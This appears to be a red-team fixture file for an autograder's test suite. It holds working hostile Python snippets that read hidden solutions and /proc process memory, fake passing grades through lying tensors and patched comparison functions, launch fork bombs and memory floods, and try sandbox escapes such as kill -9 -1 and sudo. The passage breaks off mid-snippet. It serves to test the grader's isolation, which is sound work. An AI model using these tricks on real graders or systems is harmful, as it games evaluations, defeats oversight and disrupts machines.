"""Hostile normalization submissions for tests/test_redteam.py, one short snippet each.

Each submission is built at test time: the reference solution, then PREAMBLE
(helpers and the values the test fills in), then the attack's snippet, then
POSTAMBLE. A snippet runs at import time in the worker; one that attacks from
inside a call wraps `batch_norm`, `layer_norm` or `BatchNormFunction`.

Attacks that try to read or do something forbidden record each success with
`_rt_found(...)`; once anything is recorded, every call of the topic raises
"REDTEAM-FOUND ..." (POSTAMBLE), so the submission loses its points and the
test, which expects full marks, fails and prints what was found.

`low` and `high` bound the score the attack may get, as expressions of `full`
(the topic's full score), `BUILT` (what a submission whose every output is spoiled still
earns: the check that only builds the modules, and the placement probe of that check), `LNB` (points of the check layer_norm_backward, the
one an attack in layer_norm hits by default), `LNL` (of layer_norm_last_dim),
`BNF` (points of the BatchNormFunction checks) or "control:<name>" (the score
of a control submission with the same bug and no cheating). `needs` names the
isolation layers without which the attack is not run at all: without them it
would really escape (kill the grader, write into the repository or the venv,
reach the network), so the test is skipped with that reason.
"""
from __future__ import annotations

import textwrap
from dataclasses import dataclass

D = textwrap.dedent


@dataclass(frozen=True)
class Attack:
    name: str
    category: str          # read | verdict | dos | escape | poison | control
    code: str
    high: str = "full"     # the most it may score
    low: str | None = None  # the least it must score (None: exactly `high`)
    needs: tuple[str, ...] = ()
    batch: str = ""        # which grade_batch run holds it (defaults to the category's)
    xfail: str | None = None

    def source(self, reference: str, values: dict) -> str:
        preamble = PREAMBLE.format(**{k: repr(v) for k, v in values.items()})
        return (reference.rstrip("\n") + "\n\n" + preamble + "\n# ---- attack: " + self.name + "\n"
                + textwrap.dedent(self.code).strip("\n") + "\n\n" + POSTAMBLE)


PREAMBLE = '''\
# ============================================================================ red team
import os as _rt_os
import sys as _rt_sys

_RT_TOKEN = {token}           # marks every file or process this attack leaves
_RT_ROOT = {root}             # the course repository on the grader's machine
_RT_HOME = {home}             # the grader's home folder
_RT_HOME_KEEP = {home_keep}   # names under the home folder the worker may see (its Python)
_RT_ROOT_KEEP = {root_keep}   # names under the repository the worker may see (the venv)
_RT_OUT = {out}               # the grader's output folder (a perfect guess)
_RT_NAME = {name}             # this submission's name
_RT_PORT = {port}             # a port the test listens on at 127.0.0.1
_RT_FOUND = []                # what the attack could read or do


def _rt_interpreter_path(path):
    """The worker's own Python (venv and base install) stays visible at its path, and so do
    the empty folders above it: finding those is no leak (e.g. a repository under /tmp)."""
    path = _rt_os.path.realpath(str(path))
    for keep in (_rt_sys.prefix, _rt_sys.base_prefix):
        keep = _rt_os.path.realpath(keep)
        if path == keep or path.startswith(keep + "/") or keep.startswith(path.rstrip("/") + "/"):
            return True
    return False


def _rt_found(what):
    text = str(what)
    if ": " in text and _rt_interpreter_path(text.split(": ", 1)[1]):
        return
    _RT_FOUND.append(text[:300])


def _rt_try(fn):
    """True when fn() did not raise."""
    try:
        fn()
        return True
    except BaseException:
        return False


def _rt_write(path, text):
    with open(path, "w") as fh:
        fh.write(text)
'''

POSTAMBLE = '''\
# ============================================================================ tell the grader
def _rt_guard(fn):
    def guarded(*args, **kwargs):
        if _RT_FOUND:
            raise RuntimeError("REDTEAM-FOUND " + " | ".join(_RT_FOUND[:6]))
        return fn(*args, **kwargs)
    return guarded


batch_norm = _rt_guard(batch_norm)
layer_norm = _rt_guard(layer_norm)
_rt_bnf_forward = BatchNormFunction.forward
BatchNormFunction.forward = staticmethod(_rt_guard(_rt_bnf_forward))
'''

# Wrong values everywhere (outputs + 1000, running statistics + 1000): what the
# "faking the verdict" attacks dress up as correct. Used by their snippets.
SPOIL = '''
def _rt_spoil(make):
    global batch_norm, layer_norm
    _bn, _ln, _apply = batch_norm, layer_norm, BatchNormFunction.apply

    def bn(x, running_mean, running_var, *args, **kwargs):
        out = _bn(x, running_mean, running_var, *args, **kwargs)
        if running_mean is not None:
            with torch.no_grad():
                running_mean.add_(1000.0)
                running_var.add_(1000.0)
        return make(out + 1000.0)

    def ln(*args, **kwargs):
        return make(_ln(*args, **kwargs) + 1000.0)

    def apply(*args, **kwargs):
        return make(_apply(*args, **kwargs) + 1000.0)

    batch_norm, layer_norm = bn, ln
    BatchNormFunction.apply = apply
'''


LN_BACKWARD_CALL = "tuple(args[0].shape) == (5, 8) and args[0].requires_grad"


def _wrap_layer_norm(body: str, when: str = LN_BACKWARD_CALL) -> str:
    """A snippet that runs `body` at the start of the layer_norm calls where `when` holds:
    by default those of the check layer_norm_backward only (the one check that gives
    layer_norm a (5, 8) input that requires grad), so one check pays for the attack and
    a time-out costs once."""
    return ("_rt_ln = layer_norm\n\n\ndef layer_norm(*args, **kwargs):\n"
            + f"    if {when}:\n"
            + textwrap.indent(textwrap.dedent(body).strip("\n"), "        ")
            + "\n    return _rt_ln(*args, **kwargs)\n")


def _layer_norm_through(kernel: str) -> str:
    """layer_norm computed by `kernel` (an expression for a native_layer_norm-like function)
    in the calls of the check layer_norm_backward, the reference elsewhere."""
    return ("_rt_ln = layer_norm\n\n\ndef layer_norm(x, normalized_shape, weight=None, bias=None, eps=1e-5):\n"
            "    if tuple(x.shape) == (5, 8) and x.requires_grad:\n"
            "        _shape = [normalized_shape] if isinstance(normalized_shape, int) else list(normalized_shape)\n"
            f"        _kernel = {textwrap.dedent(kernel).strip()}\n"
            "        return _kernel(x, _shape, weight, bias, eps)[0]\n"
            "    return _rt_ln(x, normalized_shape, weight, bias, eps)\n")


FS = ("mount-namespace",)
UID_FS = ("uid", "mount-namespace")

ATTACKS: list[Attack] = [
    # ------------------------------------------------------------------ reading hidden material
    Attack("read_solutions_absolute", "read", '''
        for _p in [_RT_ROOT + "/solutions", _RT_ROOT + "/solutions/03_normalization/normalization.py",
                   _RT_ROOT + "/autograder", _RT_ROOT + "/autograder/hidden/normalization.py",
                   _RT_ROOT + "/autograder/bank/normalization.py", _RT_ROOT + "/.git/HEAD"]:
            if _rt_os.path.exists(_p):
                _rt_found("exists: " + _p)
            if _rt_try(lambda: open(_p, "rb").read(64)):
                _rt_found("read: " + _p)
        try:
            _extra = set(_rt_os.listdir(_RT_ROOT)) - set(_RT_ROOT_KEEP)
            if _extra:
                _rt_found("listed the repository: " + ", ".join(sorted(_extra)[:8]))
        except OSError:
            pass
    ''', needs=FS),
    Attack("read_solutions_relative", "read", '''
        _bases = [_rt_os.getcwd(), _rt_os.path.dirname(_rt_os.path.abspath(__file__))]
        for _base in _bases:
            _d = _base
            for _i in range(10):                       # every ancestor of cwd and of __file__
                for _rel in ("solutions/03_normalization/normalization.py",
                             "autograder/hidden/normalization.py", "main/solutions", "solutions"):
                    if _rt_os.path.exists(_rt_os.path.join(_d, _rel)):
                        _rt_found("exists: " + _rt_os.path.join(_d, _rel))
                _d = _rt_os.path.dirname(_d)
            for _up in range(1, 10):                   # ../../work/main/solutions and friends
                _rel = "/".join([".."] * _up) + "/" + _RT_ROOT.lstrip("/") + "/solutions"
                if _rt_os.path.exists(_rt_os.path.join(_base, _rel)):
                    _rt_found("exists: " + _rel)
        for _up in range(1, 10):                       # relative to the working directory
            if _rt_os.path.exists("../" * _up + _RT_ROOT.lstrip("/") + "/solutions"):
                _rt_found("exists relative to cwd: " + "../" * _up)
    ''', needs=FS),
    Attack("read_hidden_by_import", "read", '''
        import importlib as _rt_il
        for _m in ("autograder.hidden.normalization", "autograder.reference", "autograder",
                   "solutions", "hidden.normalization"):
            try:
                _rt_il.import_module(_m)
                _rt_found("imported " + _m)
            except BaseException:
                pass
        for _p in _rt_sys.path:
            for _rel in ("autograder/hidden", "autograder/reference.py", "solutions/03_normalization"):
                if _p and _rt_os.path.exists(_rt_os.path.join(_p, _rel)):
                    _rt_found("on sys.path: " + _rt_os.path.join(_p, _rel))
    ''', needs=FS),
    Attack("read_output_folder", "read", '''
        import glob as _rt_glob
        for _p in (_RT_OUT, _rt_os.path.dirname(_RT_OUT), _RT_OUT + "/gradebook.csv"):
            if _rt_os.path.exists(_p):
                _rt_found("exists: " + _p)
        for _pat in ("/tmp/*", "/tmp/**/gradebook.csv", "/tmp/**/results.json", "/tmp/pytest-of-*"):
            for _hit in _rt_glob.glob(_pat, recursive=True)[:3]:
                _rt_found("found: " + _hit)
    ''', needs=FS),
    Attack("read_reference_scratch", "read", '''
        import glob as _rt_glob
        for _pat in ("/tmp/ag_reference-*", "/tmp/ag_reference-*/modules/*.py", "/tmp/ag-reference-*", "/tmp/*/normalization.py",
                     "/tmp/**/solutions", "/var/tmp/ag_reference-*"):
            for _hit in _rt_glob.glob(_pat, recursive=True)[:3]:
                _rt_found("found: " + _hit)
        try:
            _held = [n for n in _rt_os.listdir("/tmp") if not _rt_interpreter_path("/tmp/" + n)]
            if _held:
                _rt_found("/tmp holds: " + ", ".join(sorted(_held)[:5]))
        except OSError:
            pass
    ''', needs=FS),
    Attack("read_other_workers_scratch", "read", '''
        import glob as _rt_glob
        _mine = _rt_os.getcwd()
        try:
            _others = [n for n in _rt_os.listdir(_rt_os.path.dirname(_mine)) if n != _rt_os.path.basename(_mine)]
            if _others:
                _rt_found("listed other scratch folders: " + ", ".join(_others[:4]))
        except OSError:
            pass
        for _pat in ("/var/tmp/ag-sandbox/*", "/var/tmp/ag-sandbox/*/submission/*",
                     "/var/tmp/ag-sandbox/*/runtime/*", "/var/tmp/*/*/submission/*", "/var/tmp/*/*/output.log"):
            for _hit in _rt_glob.glob(_pat):
                if not _hit.startswith(_mine) and _rt_try(lambda: open(_hit, "rb").read(16)):
                    _rt_found("read another worker's file: " + _hit)
    ''', needs=("uid",)),
    Attack("read_parent_environ", "read", '''
        _me = _rt_os.getpid()
        _pids = [_rt_os.getppid()] + [int(p) for p in _rt_os.listdir("/proc") if p.isdigit()]
        for _pid in _pids:
            if _pid in (0, _me):
                continue
            for _f in ("environ", "cmdline"):
                try:
                    with open(f"/proc/{_pid}/{_f}", "rb") as _fh:
                        _data = _fh.read(1 << 16)
                except OSError:
                    continue
                if any(k in _data for k in (b"PYTEST", b"pytest", b"autograder", b"AG_", _RT_HOME.encode())):
                    _rt_found(f"/proc/{_pid}/{_f} of the grader: {_data[:80]!r}")
    ''', needs=("pid-namespace",)),
    Attack("read_parent_memory", "read", '''
        _me = _rt_os.getpid()
        for _pid in {_rt_os.getppid(), 1, *[int(p) for p in _rt_os.listdir("/proc") if p.isdigit()]}:
            if _pid in (0, _me):
                continue
            try:
                with open(f"/proc/{_pid}/maps") as _fh:
                    _lines = [l for l in _fh.read().splitlines() if l.split()[1].startswith("r")]
                _start = int(_lines[0].split("-")[0], 16)
                with open(f"/proc/{_pid}/mem", "rb") as _fh:
                    _fh.seek(_start)
                    if _fh.read(64):
                        _rt_found(f"read /proc/{_pid}/mem")
            except (OSError, IndexError, ValueError):
                pass
    ''', needs=("uid", "pid-namespace")),
    Attack("read_grader_cmdline", "read", '''
        import glob as _rt_glob
        for _path in _rt_glob.glob("/proc/[0-9]*/cmdline"):
            if _path == f"/proc/{_rt_os.getpid()}/cmdline":
                continue
            try:
                with open(_path, "rb") as _fh:
                    _cmd = _fh.read(4096)
            except OSError:
                continue
            if any(k in _cmd for k in (b"pytest", b"autograder", b"grade\\0", b"unshare")):
                _rt_found(f"{_path}: {_cmd[:100]!r}")
    ''', needs=("pid-namespace",)),
    Attack("read_gc_objects", "read", '''
        import gc as _rt_gc


        def _rt_scan_gc(where):
            for _o in _rt_gc.get_objects():
                try:
                    _mod = str(getattr(type(_o), "__module__", "") or "")
                    _own = str(getattr(_o, "__module__", "") or "") if callable(_o) else ""
                    _name = _o.__name__ if isinstance(_o, type(_rt_os)) else ""
                except BaseException:
                    continue
                for _s in (_mod, _own, _name):
                    if _s.startswith(("autograder", "agref")):
                        _rt_found(f"{where}: object from {_s}")
                        return


        _rt_scan_gc("at import")
        _rt_gc_bn = batch_norm
        _rt_gc_calls = []


        def batch_norm(*args, **kwargs):
            if not _rt_gc_calls:                   # a full scan takes a while: the first call only
                _rt_gc_calls.append(1)
                _rt_scan_gc("in a call")
            return _rt_gc_bn(*args, **kwargs)
    '''),
    Attack("read_sys_modules", "read", '''
        def _rt_scan_modules(where):
            for _n, _m in list(_rt_sys.modules.items()):
                _f = str(getattr(_m, "__file__", "") or "")
                if _n.split(".")[0] in ("autograder", "solutions", "hidden") or _n.startswith("agref") \\
                        or "/autograder/" in _f or "/solutions/" in _f:
                    _rt_found(f"{where}: module {_n} ({_f})")


        _rt_scan_modules("at import")
        _rt_mod_ln = layer_norm


        def layer_norm(*args, **kwargs):
            _rt_scan_modules("in a call")
            return _rt_mod_ln(*args, **kwargs)
    '''),
    Attack("read_inspect_stack", "read", '''
        import inspect as _rt_inspect

        _RT_SECRETS = ("ReferenceSide", "CaseRunner", "compare", "expected", "TopicChecks", "grade_submission")


        def _rt_look():
            frames = [f.frame for f in _rt_inspect.stack(0)]
            frames += list(_rt_sys._current_frames().values())
            for _fr in frames:
                while _fr is not None:
                    _g, _l = _fr.f_globals, _fr.f_locals
                    if "/autograder/" in _fr.f_code.co_filename or \\
                            str(_g.get("__name__", "")).startswith(("autograder", "agref")) or \\
                            any(k in _g or k in _l for k in _RT_SECRETS):
                        _rt_found(f"grader frame {_fr.f_code.co_filename}:{_fr.f_code.co_name}")
                        return
                    _fr = _fr.f_back


        _rt_st_bn = batch_norm


        def batch_norm(*args, **kwargs):
            _rt_look()
            return _rt_st_bn(*args, **kwargs)
    '''),
    Attack("read_grader_home", "read", '''
        try:
            _extra = set(_rt_os.listdir(_RT_HOME)) - set(_RT_HOME_KEEP)
            if _extra:
                _rt_found("listed the grader's home: " + ", ".join(sorted(_extra)[:8]))
        except OSError:
            pass
        for _p in (".bash_history", ".ssh", ".gitconfig", ".cache/pip", ".python_history"):
            if _rt_os.path.exists(_rt_os.path.join(_RT_HOME, _p)):
                _rt_found("exists: ~/" + _p)
    ''', needs=FS),

    # ------------------------------------------------------------------ faking the verdict
    Attack("lying_tensor_subclass", "verdict", SPOIL + D('''
        class _RTLiar(torch.Tensor):
            """Says it equals anything, however compared."""
            def __eq__(self, other):
                return True

            def __ne__(self, other):
                return False

            def __bool__(self):
                return True

            def allclose(self, *args, **kwargs):
                return True

            def equal(self, *args, **kwargs):
                return True

            @classmethod
            def __torch_function__(cls, func, types, args=(), kwargs=None):
                if func in (torch.allclose, torch.equal, torch.Tensor.allclose, torch.Tensor.equal):
                    return True
                if func in (torch.isclose, torch.eq, torch.Tensor.isclose, torch.Tensor.eq, torch.Tensor.__eq__):
                    return torch.ones(torch.Tensor.size(args[0]), dtype=torch.bool)
                return super().__torch_function__(func, types, args, kwargs)


        _rt_spoil(lambda t: t.as_subclass(_RTLiar))
    '''), high="BUILT", low="0"),
    Attack("lying_wire_subclass", "verdict", SPOIL + D('''
        class _RTWireLiar(torch.Tensor):
            """Lies to the code that sends it: another size, dtype, data and device."""
            @classmethod
            def __torch_function__(cls, func, types, args=(), kwargs=None):
                name = getattr(func, "__name__", "")
                if name == "size":
                    return torch.Size([3])
                if name in ("detach", "contiguous", "to", "cpu", "view", "reshape"):
                    return torch.zeros(3, dtype=torch.float64)
                return super().__torch_function__(func, types, args, kwargs)


        _rt_spoil(lambda t: t.as_subclass(_RTWireLiar))
    '''), high="BUILT", low="0"),
    Attack("patch_torch_comparisons", "verdict", SPOIL + D('''
        import torch.testing as _rt_tt

        torch.allclose = lambda *a, **k: True
        torch.equal = lambda *a, **k: True
        torch.isclose = lambda a, b, *r, **k: torch.ones_like(a, dtype=torch.bool)
        _rt_tt.assert_close = lambda *a, **k: None
        torch.Tensor.__eq__ = lambda self, other: True
        torch.Tensor.allclose = lambda self, *a, **k: True
        torch.Tensor.equal = lambda self, *a, **k: True
        _rt_spoil(lambda t: t)
    '''), high="BUILT", low="0"),
    Attack("lying_class_attribute", "verdict", SPOIL + D('''
        class _RTImpostor:
            """Not a tensor, but says it is one (isinstance believes __class__)."""
            def __init__(self, t):
                self._t = t

            @property
            def __class__(self):
                return torch.Tensor

            def __eq__(self, other):
                return True

            def __getattr__(self, name):
                return getattr(self._t, name)


        _rt_spoil(_RTImpostor)
    '''), high="BUILT", low="0"),
    Attack("forbidden_builtin_guard_undone", "verdict", """
        import gc as _rt_gc
        import importlib as _rt_il

        # Undo the worker's guard: strip every kernel the guard registered, swap the code of
        # its blocked Python functions back to a copy reloaded from disk, then use the built-in.
        for _o in _rt_gc.get_objects():
            try:
                if callable(getattr(_o, "_destroy", None)):
                    _o._destroy()
            except Exception:
                pass
        _rt_F = _rt_il.import_module("torch.nn." + "functional")
        try:
            _rt_fresh = _rt_il.reload(_rt_il.import_module("torch._" + "refs"))
        except Exception:
            _rt_fresh = None
        _rt_g = _rt_sys.modules.get("guard")
        if _rt_g is not None:
            _rt_g._hit = lambda name: None
            _rt_g.os = None


        def batch_norm(x, running_mean, running_var, weight=None, bias=None, training=False,
                       momentum=0.1, eps=1e-5):
            return getattr(_rt_F, "batch" + "_norm")(x, running_mean, running_var, weight, bias,
                                                      training, momentum, eps)
    """, high="control:control_forbidden_builtin", low="0"),
    Attack("forbidden_kernel_by_aten_op", "verdict", _layer_norm_through("""
        getattr(getattr(__import__("torch"), "o" + "ps").aten, "native_layer" + "_norm")
    """), high="full - LNB"),
    Attack("forbidden_kernel_by_python_decomposition", "verdict", _layer_norm_through("""
        getattr(__import__("importlib").import_module("torch._" + "refs"), "native_layer" + "_norm")
    """), high="full - LNB"),
    Attack("forbidden_kernel_by_reloaded_decomposition", "verdict", _layer_norm_through("""
        getattr(__import__("importlib").reload(__import__("importlib").import_module("torch._" + "refs")),
                "native_layer" + "_norm")
    """), high="full - LNB"),
    Attack("control_forbidden_builtin", "control", '''
        import importlib as _rt_il

        _rt_F = _rt_il.import_module("torch.nn." + "functional")
        _rt_builtin = getattr(_rt_F, "batch" + "_norm")


        def batch_norm(x, running_mean, running_var, weight=None, bias=None, training=False,
                       momentum=0.1, eps=1e-5):
            return _rt_builtin(x, running_mean, running_var, weight, bias, training, momentum, eps)
    ''', high="full - 1", low="0", batch="verdict"),
    Attack("input_mutation_hidden_from_worker", "verdict", '''
        _rt_mut_bn = batch_norm


        def batch_norm(x, *args, **kwargs):
            out = _rt_mut_bn(x, *args, **kwargs)
            if not x.requires_grad:
                x.add_(0.5)                        # the bug: the caller's input changes
            return out


        _rt_w = _rt_sys.modules.get("worker")      # ...and the worker is told not to look at x
        if _rt_w is not None:
            _rt_args = _rt_w._tensor_args
            _rt_w._tensor_args = lambda args, kwargs: [
                (k, t) for k, t in _rt_args(args, kwargs) if k != 0 or t.requires_grad]
    ''', high="control:control_input_mutation", low="0"),   # a missing argument counts as changed
    Attack("control_input_mutation", "control", '''
        _rt_mut_bn = batch_norm


        def batch_norm(x, *args, **kwargs):
            out = _rt_mut_bn(x, *args, **kwargs)
            if not x.requires_grad:
                x.add_(0.5)
            return out
    ''', high="full - 1", low="0", batch="verdict"),
    Attack("forged_reply_frames", "verdict", '''
        import json as _rt_json
        import struct as _rt_struct

        _rt_header = _rt_json.dumps({"value": {"__error__": "forged"}, "forbidden": []}).encode()
        _rt_payload = _rt_struct.pack("<I", len(_rt_header)) + _rt_header + _rt_struct.pack("<I", 0)
        _RT_FRAME = _rt_struct.pack("<Q", len(_rt_payload)) + _rt_payload
        _rt_fr_bn = batch_norm


        def batch_norm(*args, **kwargs):
            for _fd in range(3, 64):               # the reply pipe is one of these
                try:
                    _rt_os.write(_fd, _RT_FRAME)
                except OSError:
                    pass
            return _rt_fr_bn(*args, **kwargs)
    ''', low="0"),
    Attack("forged_huge_reply_header", "verdict", _wrap_layer_norm('''
        import struct as _rt_struct
        for _fd in range(3, 64):
            try:
                _rt_os.write(_fd, _rt_struct.pack("<Q", 1 << 40))
            except OSError:
                pass
    '''), high="full - LNB"),
    Attack("forged_deeply_nested_reply", "verdict", _wrap_layer_norm('''
        import struct as _rt_struct
        _h = b"[" * 200000 + b"]" * 200000
        _p = _rt_struct.pack("<I", len(_h)) + _h + _rt_struct.pack("<I", 0)
        for _fd in range(3, 64):
            try:
                _rt_os.write(_fd, _rt_struct.pack("<Q", len(_p)) + _p)
            except OSError:
                pass
    '''), high="full - LNB", low="0"),
    Attack("os_exit_in_a_call", "verdict", _wrap_layer_norm('''
        _rt_os._exit(0)                            # "success"
    '''), high="full - LNB"),
    Attack("sys_exit_in_a_call", "verdict", _wrap_layer_norm('''
        raise SystemExit(0)
    '''), high="full - LNB"),
    Attack("os_exit_at_import", "verdict", '''
        _rt_os._exit(0)
    ''', high="0"),
    Attack("base_exceptions", "verdict", _wrap_layer_norm('''
        raise KeyboardInterrupt("stop grading")
    ''') + '''

class _RTEvil(BaseException):
    def __str__(self):
        raise RuntimeError("no message for you")

    def __repr__(self):
        raise RuntimeError("no repr either")


def _rt_evil_forward(ctx, *args):
    raise _RTEvil()


BatchNormFunction.forward = staticmethod(_rt_evil_forward)
''', high="full - LNB - BNF"),
    Attack("builtins_and_torch_replaced", "verdict", '''
        import builtins as _rt_b
        import types as _rt_types

        _rt_proxy = _rt_types.ModuleType("torch")
        _rt_proxy.__dict__.update(torch.__dict__)
        _rt_proxy.allclose = lambda *a, **k: True
        _rt_proxy.equal = lambda *a, **k: True
        _rt_sys.modules["torch"] = _rt_proxy
        _rt_import = _rt_b.__import__


        def _rt_hooked_import(name, *args, **kwargs):
            module = _rt_import(name, *args, **kwargs)
            return _rt_proxy if name == "torch" else module


        _rt_b.__import__ = _rt_hooked_import
        _rt_b.print = lambda *a, **k: None
        _rt_b.open = lambda *a, **k: (_ for _ in ()).throw(PermissionError("open is mine"))
    ''', low="0"),
    Attack("fake_result_files", "verdict", '''
        import glob as _rt_glob
        import json as _rt_json

        _rt_fake = _rt_json.dumps({"score": 9999, "max_score": 31, "tests": [], "redteam": _RT_TOKEN})
        _rt_dirs = [_rt_os.getcwd(), _rt_os.path.dirname(_rt_os.getcwd()), _rt_os.path.expanduser("~"),
                    "/tmp", _RT_OUT, _RT_OUT + "/" + _RT_NAME, _RT_OUT + "/zz-honest-1",
                    _rt_os.path.dirname(_RT_OUT)] + _rt_glob.glob("/tmp/**/", recursive=True)[:50]
        for _d in _rt_dirs:
            for _f, _text in (("results.json", _rt_fake), ("feedback.txt", "All correct! " + _RT_TOKEN),
                              ("gradebook.csv", "submission,score\\nzz-honest-1,0\\n# " + _RT_TOKEN)):
                try:
                    _rt_os.makedirs(_d, exist_ok=True)
                    with open(_rt_os.path.join(_d, _f), "x") as _fh:
                        _fh.write(_text)
                except OSError:
                    pass
    ''', needs=FS),

    # ------------------------------------------------------------------ denial of service
    Attack("endless_loop_at_import", "dos", '''
        while True:
            pass
    ''', high="0"),
    Attack("endless_loop_in_a_call", "dos", _wrap_layer_norm('''
        while True:
            pass
    '''), high="full - LNB"),
    Attack("allocate_50_gb_at_import", "dos", '''
        try:
            _rt_big = bytearray(50 << 30)
        except MemoryError:
            _rt_big = None
        try:
            _rt_big = torch.empty(50 << 30, dtype=torch.uint8)
        except (RuntimeError, MemoryError):
            _rt_big = None
        if _rt_big is not None:
            _rt_found("allocated 50 GB")
    '''),
    Attack("allocate_50_gb_in_a_call", "dos", _wrap_layer_norm('''
        torch.ones(50 << 30, dtype=torch.uint8)
    '''), high="full - LNB"),
    Attack("fork_bomb_bounded", "dos", '''
        import time as _rt_time

        _rt_kids = 0
        for _i in range(10000):                    # bounded: the pids limit must stop it far earlier
            try:
                _rt_pid = _rt_os.fork()
            except OSError:
                break
            if _rt_pid == 0:
                try:
                    _rt_time.sleep(30)
                finally:
                    _rt_os._exit(0)
            _rt_kids += 1
        if _rt_kids >= 1000:
            _rt_found(f"started {_rt_kids} processes")
    ''', low="0", needs=("uid", "pid-namespace")),
    Attack("spinning_threads", "dos", _wrap_layer_norm('''
        import threading as _rt_threading

        def _rt_spin():
            while True:
                pass

        for _i in range(4):                        # they spin on in this worker until it is replaced
            _rt_threading.Thread(target=_rt_spin, daemon=True).start()
    '''), low="0"),
    Attack("flood_stdout_stderr_100_mb", "dos", '''
        _rt_chunk = "x" * (1 << 20)
        for _i in range(100):
            try:
                print(_rt_chunk)
                print(_rt_chunk, file=_rt_sys.stderr)
            except BaseException:
                break
        for _fd in (1, 2):
            for _i in range(100):
                try:
                    _rt_os.write(_fd, b"y" * (1 << 20))
                except OSError:
                    break
    '''),
    Attack("sleep_forever_in_a_call", "dos", _wrap_layer_norm('''
        import signal as _rt_signal
        import time as _rt_time
        _rt_signal.pthread_sigmask(_rt_signal.SIG_BLOCK, set(_rt_signal.Signals))
        _rt_time.sleep(10 ** 6)
    '''), high="full - LNB"),
    Attack("fill_dev_shm", "dos", '''
        _rt_total = 0
        for _i in range(256):                      # at most 256 files of 8 MiB (the file size limit)
            try:
                with open(f"/dev/shm/agrt-{_RT_TOKEN}-{_i}", "wb") as _fh:
                    for _j in range(8):
                        _fh.write(b"z" * (1 << 20))
                        _rt_total += 1 << 20
            except OSError:
                break
        if _rt_total >= 512 << 20:
            _rt_found(f"wrote {_rt_total >> 20} MiB into /dev/shm")
    ''', needs=FS),
    Attack("recursion_bomb", "dos", _wrap_layer_norm('''
        _rt_sys.setrecursionlimit(10 ** 7)

        def _rt_deeper(n):
            return _rt_deeper.__call__(n + 1)      # each level through C: the C stack overflows

        _rt_deeper(0)
    '''), high="full - LNB"),
    Attack("tensor_of_a_billion_elements", "dos", _wrap_layer_norm('''
        return torch.zeros(1).expand(10 ** 9)      # 4 GB once made contiguous for the wire
    ''', when="tuple(args[0].shape) == (4, 6, 10) and args[1] == 10"), high="full - LNL"),
    Attack("reply_header_of_80_mb", "dos", _wrap_layer_norm('''
        return "x" * (70 << 20)                    # a 70 MB JSON header
    '''), high="full - LNB"),

    Attack("expression_too_deep_for_the_static_scan", "dos",
           "_rt_total = " + " + ".join(["1"] * 200000) + "\n",      # 800 kB, one line
           high="0", batch="crash"),

    # ------------------------------------------------------------------ escaping the sandbox
    Attack("network_access", "escape", '''
        import socket as _rt_socket
        for _host, _port in (("1.1.1.1", 80), ("127.0.0.1", _RT_PORT), ("127.0.0.1", 22), ("127.0.0.1", 80)):
            _s = _rt_socket.socket(_rt_socket.AF_INET, _rt_socket.SOCK_STREAM)
            _s.settimeout(2)
            try:
                _s.connect((_host, _port))
                _rt_found(f"connected to {_host}:{_port}")
            except OSError:
                pass
            finally:
                _s.close()
    ''', needs=("net-namespace",)),
    Attack("become_root", "escape", '''
        import subprocess as _rt_sp
        for _call in (lambda: _rt_os.setuid(0), lambda: _rt_os.seteuid(0), lambda: _rt_os.setgid(0),
                      lambda: _rt_os.setresuid(0, 0, 0), lambda: _rt_os.setgroups([0])):
            if _rt_try(_call):
                _rt_found("a set*id call succeeded")
        if _rt_os.getuid() == 0 or _rt_os.geteuid() == 0:
            _rt_found("running as root")
        for _cmd in (["sudo", "-n", "id", "-u"], ["su", "-c", "id -u"]):
            try:
                _r = _rt_sp.run(_cmd, capture_output=True, timeout=5, stdin=_rt_sp.DEVNULL)
                if _r.stdout.strip() == b"0":
                    _rt_found(" ".join(_cmd) + " gave root")
            except (OSError, _rt_sp.SubprocessError):
                pass
    ''', needs=("uid",)),
    Attack("write_into_the_repository", "escape", '''
        _rt_here = _rt_os.path.dirname(_rt_os.path.abspath(__file__))
        _rt_targets = [_RT_ROOT + f"/agrt-{_RT_TOKEN}.txt", _RT_ROOT + f"/solutions/agrt-{_RT_TOKEN}.txt",
                       _RT_ROOT + f"/autograder/hidden/agrt-{_RT_TOKEN}.py",
                       _RT_ROOT + f"/.venv/agrt-{_RT_TOKEN}.txt"]
        for _base in (_rt_os.getcwd(), _rt_here):
            _rt_targets.append(_rt_os.path.join(_base, "../" * 8 + _RT_ROOT.lstrip("/"), f"agrt-{_RT_TOKEN}-rel.txt"))
        for _t in _rt_targets:
            try:
                _rt_os.close(_rt_os.open(_t, _rt_os.O_WRONLY | _rt_os.O_CREAT | _rt_os.O_EXCL, 0o644))
                _rt_found("created " + _t)
            except OSError:
                pass
        for _t in ("README.md", "solutions/03_normalization/normalization.py", "autograder/grader.py"):
            try:                                   # opened for writing, nothing written
                _rt_os.close(_rt_os.open(_RT_ROOT + "/" + _t, _rt_os.O_WRONLY | _rt_os.O_APPEND))
                _rt_found("could write " + _t)
            except OSError:
                pass
        if _rt_try(lambda: _rt_os.mkdir(_RT_ROOT + f"/.git/agrt-{_RT_TOKEN}")):
            _rt_found("created a folder in .git")
    ''', needs=UID_FS),
    Attack("kill_the_grader", "escape", '''
        import signal as _rt_signal
        import subprocess as _rt_sp
        _rt_try(lambda: _rt_os.kill(_rt_os.getppid(), _rt_signal.SIGKILL))
        _rt_try(lambda: _rt_os.killpg(_rt_os.getpgid(_rt_os.getppid()), _rt_signal.SIGKILL))
        _rt_try(lambda: _rt_os.kill(-1, _rt_signal.SIGKILL))
        for _p in _rt_os.listdir("/proc"):
            if _p.isdigit() and int(_p) != _rt_os.getpid():
                _rt_try(lambda: _rt_os.kill(int(_p), _rt_signal.SIGKILL))
        _rt_try(lambda: _rt_sp.run(["kill", "-9", "-1"], timeout=5))
    ''', low="0", needs=("uid", "pid-namespace")),
    Attack("daemon_left_behind", "escape", '''
        _rt_child = _rt_os.fork()
        if _rt_child == 0:                         # double fork + setsid: a daemon
            try:
                _rt_os.setsid()
                if _rt_os.fork() == 0:
                    _rt_os.execv("/bin/sleep", [f"agrt-{_RT_TOKEN}-daemon", "120"])
            finally:
                _rt_os._exit(0)
        _rt_os.waitpid(_rt_child, 0)
    ''', needs=("pid-namespace",)),
    Attack("raise_own_cgroup_limits", "escape", '''
        try:
            with open("/proc/self/cgroup") as _fh:
                _rt_groups = [l.strip().split(":", 2) for l in _fh if l.strip()]
        except OSError:
            _rt_groups = []
        for _id, _ctrls, _path in _rt_groups:
            for _c in _ctrls.split(","):
                if not _c:
                    continue
                _base = f"/sys/fs/cgroup/{_c}"
